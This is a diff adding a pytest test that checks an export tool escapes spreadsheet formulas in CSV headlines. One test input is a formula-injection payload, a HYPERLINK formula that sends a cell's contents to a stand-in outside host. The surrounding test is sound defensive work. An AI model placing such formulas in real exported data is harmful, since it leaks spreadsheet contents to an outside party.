@@ -195,3 +195,11 @@ def test_what_cannot_be_exported(record: Path, tmp_path: Path) -> None:
         ):
             with pytest.raises(QuestionError):
                 export(store, kind, form, out)
+
+
+@pytest.mark.parametrize("title", ['=HYPERLINK("http://elsewhere.example/"&A1)', "+1", "-1+2", "@SUM(A1)", "\t=1"])
+def test_no_headline_is_a_formula_in_a_spreadsheet(tmp_path: Path, title: str) -> None:
+    ingested(tmp_path / "f.db", [document("a.txt", '"We go" said Anna.', title=title, outlet="Mill Post")])
+    (row,) = csv.DictReader(io.StringIO(written(tmp_path / "f.db", "reports", "csv").decode(), newline=""))
+    assert (row["title"], row["outlet"]) == (f"'{title}", "Mill Post")
+    assert json.loads(written(tmp_path / "f.db", "reports", "jsonl"))["title"] == title
